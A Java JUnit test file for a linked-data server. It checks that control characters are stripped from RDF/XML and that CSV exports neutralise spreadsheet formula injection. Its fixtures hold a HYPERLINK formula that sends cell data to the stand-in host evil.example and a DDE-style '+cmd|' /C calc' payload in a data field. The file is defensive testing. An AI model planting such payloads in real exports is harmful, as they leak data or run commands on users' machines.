package org.w3id.iomidf.serve;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import javax.xml.parsers.DocumentBuilderFactory;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.jena.atlas.json.JSON;
import org.apache.jena.atlas.json.JsonObject;
import org.apache.jena.atlas.json.JsonValue;
import org.apache.jena.rdf.model.Model;
import org.apache.jena.rdf.model.ModelFactory;
import org.apache.jena.riot.Lang;
import org.apache.jena.riot.RDFParser;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Pages whose text is hostile to the formats the data is served in: characters XML cannot carry, and titles a
 * spreadsheet would run as formulas. Built for real, served on a free port and read back over HTTP.
 */
class HostileTextTest {
    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Open\")";

    @TempDir
    static Path dir;

    static LinkedDataServer server;
    static Http http;

    @BeforeAll
    static void buildAndServe() throws IOException {
        Path pages = Files.createDirectories(dir.resolve("pages"));
        page(pages, "controls.txt", "Border\u000Bmanagement in \u001BTonga", "ZZ10P9901", "Tonga", "Text \uFFFE here.");
        page(pages, "formula.txt", FORMULA, "ZZ10P9902", "Fiji +cmd|' /C calc'!A0", "Text.");
        page(pages, "minus.txt", "-2+3 and @SUM(A1)", "ZZ10P9903", "Samoa", "Text.");
        SampleSite.build(dir.resolve("site"), List.of(pages));
        server = LinkedDataServer.start(ServeConfig.of(dir.resolve("site"), 0));
        http = new Http(server.port());
    }

    @AfterAll
    static void stop() {
        server.close();
    }

    @Test
    void aProjectWhosePageHeldControlCharactersIsServedAsRdfXml() {
        HttpResponse<String> r = http.get("/project/ZZ10P9901.rdf");
        assertEquals(200, r.statusCode(), r::body);
        Model m = ModelFactory.createDefaultModel();
        RDFParser.fromString(r.body(), Lang.RDFXML).parse(m);
        assertTrue(
                m.listObjects().toList().stream()
                        .anyMatch(o ->
                                o.isLiteral() && o.asLiteral().getLexicalForm().equals("Border management in Tonga")),
                r::body);
    }

    @Test
    void constructAsRdfXmlAndSelectAsXmlResultsAreWellFormed() throws Exception {
        String construct = "CONSTRUCT { ?p ?q ?o } WHERE { ?p ?q ?o FILTER(isLiteral(?o)) }";
        HttpResponse<String> rdf = http.get(SampleSite.query(construct), "Accept", "application/rdf+xml");
        assertEquals(200, rdf.statusCode(), rdf::body);
        RDFParser.fromString(rdf.body(), Lang.RDFXML).parse(ModelFactory.createDefaultModel());
        String select = "SELECT ?o WHERE { ?p ?q ?o FILTER(isLiteral(?o)) }";
        HttpResponse<String> xml = http.get(SampleSite.query(select), "Accept", "application/sparql-results+xml");
        assertEquals(200, xml.statusCode(), xml::body);
        DocumentBuilderFactory.newInstance()
                .newDocumentBuilder()
                .parse(new ByteArrayInputStream(xml.body().getBytes(StandardCharsets.UTF_8)));
    }

    @Test
    void csvCellsThatASpreadsheetWouldRunAreEscapedAndRecoverable() throws IOException {
        HttpResponse<String> r = http.get("/dumps/idf-ld-projects.csv");
        assertEquals(200, r.statusCode(), r::body);
        String csv = r.body();
        assertTrue(csv.contains(",\"'" + FORMULA.replace("\"", "\"\"") + "\","), csv);
        Map<String, CSVRecord> rows = new HashMap<>();
        for (CSVRecord row : CSVFormat.RFC4180.builder().setHeader().get().parse(new StringReader(csv))) {
            rows.put(row.get("primaId"), row);
        }
        assertEquals("'" + FORMULA, rows.get("ZZ10P9902").get("title"));
        assertEquals("'+cmd|' /C calc'!A0", rows.get("ZZ10P9902").get("unresolvedBeneficiaries"));
        assertEquals("'-2+3 and @SUM(A1)", rows.get("ZZ10P9903").get("title"));
        assertEquals("Border management in Tonga", rows.get("ZZ10P9901").get("title"));
        for (CSVRecord row : rows.values()) {
            for (String cell : row.values()) {
                assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0, () -> "formula: " + row);
            }
        }
        // the metadata says how to get the value back, and following it gives the page's title
        JsonObject meta =
                JSON.parse(http.get("/dumps/idf-ld-projects.csv-metadata.json").body());
        JsonObject title = meta.get("tableSchema").getAsObject().get("columns").getAsArray().stream()
                .map(JsonValue::getAsObject)
                .filter(c -> c.get("name").getAsString().value().equals("title"))
                .findFirst()
                .orElseThrow();
        String how = title.get("dc:description").getAsString().value();
        assertTrue(how.contains("remove the first character of any text cell that starts with '"), how);
        String cell = rows.get("ZZ10P9902").get("title");
        assertEquals(FORMULA, cell.startsWith("'") ? cell.substring(1) : cell);
    }

    private static void page(Path dir, String name, String title, String prima, String countries, String text)
            throws IOException {
        String page = String.join(
                "\n",
                title,
                "",
                "  • Prima ID",
                "    " + prima,
                "  • Benefiting Member States",
                "    " + countries,
                "",
                text);
        Files.writeString(dir.resolve(name), page, StandardCharsets.UTF_8);
    }
}
